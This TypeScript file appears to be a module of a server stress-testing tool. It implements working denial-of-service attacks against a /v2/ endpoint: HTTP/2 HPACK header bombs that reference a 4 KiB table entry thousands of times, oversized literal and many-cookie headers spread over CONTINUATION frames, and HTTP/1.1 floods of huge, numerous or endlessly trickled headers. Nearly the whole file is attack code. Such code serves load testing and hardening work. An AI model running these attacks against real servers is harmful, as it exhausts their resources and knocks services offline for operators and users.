import { literal, newest, remembered } from '../../raw-http/hpack.ts'
import { continuation, headers, TYPE } from '../../raw-http/http2-frames.ts'
import { requestFor } from '../../raw-http/raw-http1.ts'
import type { RawHttp2 } from '../../raw-http/raw-http2.ts'
import {
  type AttackOptions,
  type AttackTarget,
  type HoldOptions,
  hold,
  type Report,
  repeat,
} from '../attack.ts'
import { Crowd } from '../crowd.ts'

const AT_ONCE = 16
const TRICKLE_MS = 100
const FRAME_BYTES = 16_000

/** `indexed`: an entry of 4 KiB that is named thousands of times; `literal`: as much as is let in; `cookies`: many small. */
export type HeaderBomb = 'indexed' | 'literal' | 'cookies'

/** Requests over HTTP/2 with more headers than anybody needs. */
export async function bombHeaders(
  target: AttackTarget,
  options: AttackOptions & { bomb: HeaderBomb; streams?: number; connections?: number },
): Promise<Report> {
  const { bomb, streams = 100, connections = 8, signal } = options
  const crowd = new Crowd(target, signal)
  let sent = 0
  try {
    options.onInPlace?.()
    const { done, failed } = await repeat({ times: connections, atOnce: 1, signal }, async () => {
      const client = await crowd.http2()
      const { socket } = client
      for (let each = 0; each < streams && socket.isOpen && !socket.isOver && !signal.aborted; each += 1) {
        const frames = bombOf(client, target, bomb, each === 0)
        sent += frames.length
        await socket.send(frames)
      }
      await client.settled()
      socket.close()
    })
    const answered = crowd.frames(TYPE.headers)
    return {
      done,
      failed,
      sent,
      answered,
      reset: crowd.frames(TYPE.rstStream),
      goaways: crowd.frames(TYPE.goaway),
    }
  } finally {
    crowd.close()
  }
}

function bombOf(client: RawHttp2, target: AttackTarget, bomb: HeaderBomb, isFirst: boolean): Buffer {
  const stream = client.newStream()
  const block = Buffer.concat([client.block(target.manifest), additionOf(bomb, isFirst)])
  const isWhole = block.length <= FRAME_BYTES
  const frames = [headers(stream, block.subarray(0, FRAME_BYTES), { endHeaders: isWhole })]
  for (let at = FRAME_BYTES; at < block.length; at += FRAME_BYTES) {
    const endHeaders = at + FRAME_BYTES >= block.length
    frames.push(continuation(stream, block.subarray(at, at + FRAME_BYTES), { endHeaders }))
  }
  return Buffer.concat(frames)
}

function additionOf(bomb: HeaderBomb, isFirst: boolean): Buffer {
  switch (bomb) {
    case 'indexed': {
      // The table is of 4096 bytes, and an entry counts for 32 more than its text.
      const entry = remembered(['x-bomb', 'x'.repeat(4000)])
      return isFirst ? Buffer.concat([entry, newest(4000)]) : newest(4000)
    }
    case 'literal':
      return literal(['x-large', 'x'.repeat(15_500)])
    case 'cookies':
      return Buffer.concat(Array.from({ length: 380 }, (_, index) => literal(['cookie', `c=${index}`])))
  }
}

/** `many`: thousands of small headers; `huge`: one; `endless`: headers that never end, a few at a time. */
export type LargeHeaders = 'many' | 'huge' | 'endless'

/** Requests over HTTP/1.1 with more headers than anybody needs. */
export async function largeHeaders(
  target: AttackTarget,
  options: HoldOptions & { headers: LargeHeaders; connections?: number },
): Promise<Report> {
  const { connections = 50, headers: kind, signal } = options
  const crowd = new Crowd(target, signal)
  const timers: NodeJS.Timeout[] = []
  try {
    const { done, failed } = await repeat({ times: connections, atOnce: AT_ONCE, signal }, async () => {
      const { socket } = await crowd.http1()
      if (kind === 'endless') {
        await socket.send('GET /v2/ HTTP/1.1\r\nHost: x\r\n')
        timers.push(setInterval(() => void socket.send('X-More: y\r\n'), TRICKLE_MS))
        return
      }
      const answered = new Promise<void>((resolve) => socket.onBytes(() => resolve()))
      const more = kind === 'many' ? 'X: y\r\n'.repeat(5000) : `X: ${'y'.repeat(1_000_000)}\r\n`
      await socket.send(requestFor('/v2/', more))
      await Promise.race([answered, socket.ended])
    })
    await hold(options)
    return { done, failed }
  } finally {
    for (const timer of timers) clearInterval(timer)
    crowd.close()
  }
}
